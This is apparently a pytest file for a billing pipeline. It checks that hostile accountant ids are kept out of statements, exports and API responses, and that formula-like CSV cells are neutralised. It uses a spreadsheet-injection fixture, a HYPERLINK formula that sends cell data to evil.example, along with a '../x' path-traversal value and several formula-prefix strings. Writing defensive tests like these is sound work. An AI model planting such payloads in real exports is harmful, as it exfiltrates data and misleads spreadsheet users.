"""What the outputs make of hostile accountant ids (issue 16): only tenants of the registry get a statement, an export
row or an API statement; every other id (unknown, a look-alike) is one 'unknown' row, its cost kept in
tenant_costs under the id it was tagged with. A known id that looks like a formula is exported as text, one that
looks like a path names no file.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal as D
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from billing_pipeline.api.auth import issue_token
from billing_pipeline.exports import FORMULA_STARTS, safe_text, to_csv
from billing_pipeline.sample_data import generate_month
from billing_pipeline_tests.api_support import in_process_client
from billing_pipeline_tests.month_support import ASSETS, JAN, failure_message, run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"pay here")'
PATH = "../x"


@pytest.fixture(scope="module")
def sample(tmp_path_factory):
    return generate_month(tmp_path_factory.mktemp("sample"), JAN, tenants=3, rows=600, seed=43)


@pytest.fixture
def month(tmp_path, monkeypatch, sample):
    env = {"BILLING_CUR_URI": sample.cur_uri, "BILLING_LOGS_URI": sample.logs_uri,
           "BILLING_S3_INVENTORY_URI": sample.inventory_uri, "BILLING_USAGE_URI": sample.usage_uri,
           "BILLING_WAREHOUSE": str(tmp_path / "w.duckdb"), "BILLING_EXPORT_URI": str(tmp_path / "exports"),
           "BILLING_PUBLISH_URI": str(tmp_path / "published")}
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    assert run(ASSETS).success
    return tmp_path


def files_below(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def outside_outputs(root: Path) -> set[str]:
    """The files below `root` but not in the export or publish folders."""
    return {f for f in files_below(root) if not f.startswith(("exports/", "published/"))}


def test_only_registry_tenants_get_statements_exports_and_api_statements(month, monkeypatch):
    root = month
    warehouse = root / "w.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        t1, t2, t3 = [a for (a,) in con.execute(
            "SELECT DISTINCT accountant_id FROM tenant_costs WHERE accountant_id <> 'unattributed' ORDER BY 1"
        ).fetchall()]
        # cost tagged with a formula and a path (both tenants of the registry), a look-alike of t3 and t3 itself
        # (not in the registry)
        con.execute("UPDATE tenant_costs SET accountant_id = ? WHERE accountant_id = ?", [FORMULA, t1])
        con.execute("UPDATE tenant_costs SET accountant_id = ? WHERE accountant_id = ? AND day(usage_date) < 15",
                    [PATH, t2])
        con.execute("UPDATE tenant_costs SET accountant_id = upper(accountant_id) "
                    "WHERE accountant_id = ? AND day(usage_date) % 2 = 0", [t3])
        con.execute("UPDATE usage_shares SET accountant_id = ? WHERE accountant_id = ?", [FORMULA, t1])
        strangers_cost, in_scope = con.execute(
            "SELECT sum(cost) FILTER (accountant_id IN (?, ?)), sum(cost) FROM tenant_costs",
            [t3, t3.upper()]).fetchall()[0]
    registry = root / "tenants.txt"
    registry.write_text(f"{FORMULA}\n{PATH}\n{t2}\n")
    monkeypatch.setenv("BILLING_TENANTS", str(registry))
    outside_before = outside_outputs(root)

    result = run({"reconciliation_report", "statements", "pricing_feedback", "published_billing"})
    assert result.success, failure_message(result)

    reported = {FORMULA, PATH, t2, "unattributed", "unknown"}
    with duckdb.connect(str(warehouse), read_only=True) as con:
        statements = dict(con.execute(
            "SELECT accountant_id, cost FROM statements WHERE line = 'total'").fetchall())
        report_ids = {a for (a,) in con.execute("SELECT DISTINCT accountant_id FROM reconciliation_report").fetchall()}
        feedback_ids = {a for (a,) in con.execute("SELECT DISTINCT accountant_id FROM pricing_feedback").fetchall()}
        kept = {a for (a,) in con.execute("SELECT DISTINCT accountant_id FROM tenant_costs").fetchall()}
    assert set(statements) == reported
    # the estimates of t1 and t3 (not in the registry) are reported under 'unknown' too
    assert report_ids == reported and feedback_ids <= reported | {"total"}
    assert statements["unknown"] == strangers_cost and sum(statements.values(), D(0)) == in_scope
    assert {t3, t3.upper()} <= kept  # nothing dropped: tenant_costs keeps them under their ids

    # exports: the fixed files only, nothing outside the export folder, no stranger, formulas as text
    assert files_below(root / "exports") == {f"{name}/{name}-2026-01.{ext}" for ext in ("csv", "parquet")
                                             for name in ("statements", "reconciliation_report", "pricing_feedback")}
    assert outside_outputs(root) == outside_before
    for path in sorted((root / "exports").rglob("*.csv")):
        text = path.read_text()
        assert t1 not in text and t3 not in text and t3.upper() not in text, path
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)], path
        if "statements" in path.name:
            assert "'" + FORMULA in cells and PATH in cells
    snapshot = json.loads((root / "published" / "current" / "2026-01.json").read_text())["snapshot"]
    for path in sorted((root / "published" / "months" / "2026-01" / snapshot).glob("*.parquet")):
        table = pq.read_table(path)
        if "accountant_id" in table.column_names:
            assert set(table["accountant_id"].to_pylist()) <= reported | {"total"}, path

    # the API: the strangers have no statement; the data team sees the tenants and 'unknown'
    tokens = str(root / "tokens.json")
    client = in_process_client(root / "published", root / "tokens.json")
    for stranger in (t3, t3.upper(), t1):
        answer = client.get("/billing", params={"month": "2026-01"},
                            headers={"Authorization": f"Bearer {issue_token(stranger, tokens)}"})
        assert answer.status_code == 404, (stranger, answer.text)
    for tenant in (PATH, FORMULA):  # the API's CSV: a file name of its own, the formula as text
        answer = client.get("/billing.csv", params={"month": "2026-01"},
                            headers={"Authorization": f"Bearer {issue_token(tenant, tokens)}"})
        assert answer.status_code == 200, answer.text
        disposition = answer.headers["content-disposition"]
        assert "/" not in disposition and "\\" not in disposition  # names no folder
        cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    admin = {"Authorization": f"Bearer {issue_token(None, tokens, scope='admin')}"}
    listed = client.get("/admin/statements", params={"month": "2026-01"}, headers=admin).json()
    assert {line["accountant_id"] for line in _lines(listed)} == reported
    with pytest.raises(ValueError, match="reserved"):
        issue_token("unknown", tokens)


def _number(cell: str) -> bool:
    try:
        D(cell)
    except ArithmeticError:
        return False
    return True


def _lines(listed) -> list[dict]:
    """The statement lines of /admin/statements, whatever the envelope."""
    if isinstance(listed, list):
        return listed
    for value in listed.values():
        if isinstance(value, list) and value and isinstance(value[0], dict) and "accountant_id" in value[0]:
            return value
    raise AssertionError(f"no statement lines in {listed}")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "  @x",
                                   "\uff1d1+1", "\uff0bx", FORMULA])
def test_every_text_cell_that_a_spreadsheet_could_run_is_quoted(value):
    import pyarrow as pa

    table = pa.table({"accountant_id": [value], "cost": pa.array([D("-1.25")], pa.decimal128(38, 10))})
    ((cell, cost),) = list(csv.reader(io.StringIO(to_csv(table).decode())))[1:]
    assert cell == "'" + value and cost == "-1.2500000000"
    assert safe_text("acct-0001") == "acct-0001" and safe_text("a=b") == "a=b"

